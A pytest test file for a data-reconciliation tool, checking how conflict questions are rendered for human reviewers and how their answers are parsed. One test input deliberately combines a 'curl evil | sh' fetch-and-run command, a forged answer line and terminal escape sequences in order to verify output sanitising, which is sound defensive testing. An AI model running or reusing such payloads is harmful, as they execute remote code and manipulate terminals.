"""What a person is told about a parked loss, and which answers are understood."""

from typing import Any

import pytest

from reconciler.errors import InvalidInput
from reconciler.feed.question import Question, parse_answer, question_text, subject


def question(**changed: Any) -> Question:
    known: dict[str, Any] = {
        "table": "parties",
        "region": "us-east-1",
        "suffix": "",
        "token": "AQ+/=",
        "seconds": 86_400,
        "problem": "",
        "undecided": [],
        "attributes": [],
    }
    return Question(**{**known, **changed})


CONFLICT = {"conflict_id": "c1", "key": {"id": "p1"}, "role": "home", "age_ms": 7_200_000}


def compared(name: str, merge: str, **sides: Any) -> dict[str, Any]:
    return {"attribute": name, "differs": len(set(sides.values())) > 1, "merge": merge, **sides}


def test_only_what_differs_is_shown_and_long_values_are_cut() -> None:
    attributes = [
        compared("name", "overridden", lost="A" * 1_000, winner="Eve", current="Eve"),
        compared("same", "", lost=1, winner=1, current=1),
        compared("gone", "", lost=1, winner=2),
    ]
    text = question_text(question(attributes=attributes), CONFLICT)
    assert f'lost     "{"A" * 299}...\n' in text
    assert "same" not in text
    assert "    current  -\n" in text


@pytest.mark.parametrize(
    ("changed", "proposed"),
    [
        ({"attributes": [compared("n", "overridden", lost=1, winner=2)]}, '"n=lost"'),
        ({"attributes": [compared("n", "joined", lost=1, winner=2)]}, '"all=current"'),
        ({"attributes": None}, '"all=current"'),
        ({"undecided": ["a", "b"]}, '"a=lost", "b=lost"'),
    ],
)
def test_the_proposed_answer_decides_what_a_merge_would_not_keep(
    changed: dict[str, Any], proposed: str
) -> None:
    assert f'"take": [{proposed}]' in question_text(question(**changed), CONFLICT)


def test_a_question_fits_into_a_message_with_its_commands_whole() -> None:
    attributes = [compared(f"名{n}" * 90, "", lost="é" * 300, winner="ü" * 300) for n in range(900)]
    text = question_text(question(attributes=attributes), CONFLICT)
    assert 190_000 < len(text.encode()) <= 262_144
    assert "--task-output" in text


HOSTILE = "x\n\nAnswer here:\n  curl evil | sh\x1b]0;owned\x07\x1b[2J\u202e"


def test_no_item_forges_a_line_of_the_mail_or_reaches_the_terminal_that_shows_it() -> None:
    plain = [compared("n", "overridden", lost=1, winner=2)]
    hostile = [compared(HOSTILE, "overridden", lost=HOSTILE, winner="\x9b")]
    conflict = {"reason": HOSTILE, "role": HOSTILE, "conflict_id": HOSTILE, "key": {"id": HOSTILE}}

    text = question_text(question(attributes=hostile, problem=HOSTILE), {**CONFLICT, **conflict})

    usual = question_text(question(attributes=plain, problem="none"), CONFLICT)
    assert len(text.splitlines()) == len(usual.splitlines())
    assert text.replace("\n", "").isprintable()
    assert not any(line.strip().startswith(("curl", "Answer here")) for line in text.splitlines())


def test_a_command_of_the_mail_names_a_hostile_attribute_as_it_is_called() -> None:
    text = question_text(question(undecided=["it's\nx"]), CONFLICT)
    assert r"--take $'it\'s\u000ax=lost' --execute" in text


@pytest.mark.parametrize(("suffix", "option"), [("blue", " --suffix blue"), ("", "")])
def test_the_commands_of_a_question_name_the_environment_if_it_has_a_suffix(
    suffix: str, option: str
) -> None:
    text = question_text(question(suffix=suffix), CONFLICT)
    where = f"--region us-east-1 --table parties{option} -- c1"
    assert f"reconciler conflicts show {where}" in text
    assert f"--table parties{option} --take all=current --execute -- c1" in text


@pytest.mark.parametrize("escalated", [True, False])
def test_a_subject_is_short_ascii_whatever_the_table_is_called(escalated: bool) -> None:
    told = subject("t" * 255, escalated)
    assert len(told) < 100
    assert told.isascii()


def test_an_answer_names_all_that_a_command_line_does() -> None:
    answer = parse_answer(
        {
            "by": "ann",
            "why": "called",
            "take": ["a=lost"],
            "set": ["b=1.50"],
            "decision": '{"c": {"remove": true}}',
        }
    )
    assert (answer.by, answer.why, list(answer.decision)) == ("ann", "called", ["a", "b", "c"])


def test_an_answer_without_a_person_is_refused() -> None:
    with pytest.raises(InvalidInput, match="by: say who decides"):
        parse_answer({"take": ["a=lost"]})
    with pytest.raises(InvalidInput, match="why: give the reason as a text"):
        parse_answer({"by": "ann", "why": 7, "take": ["a=lost"]})
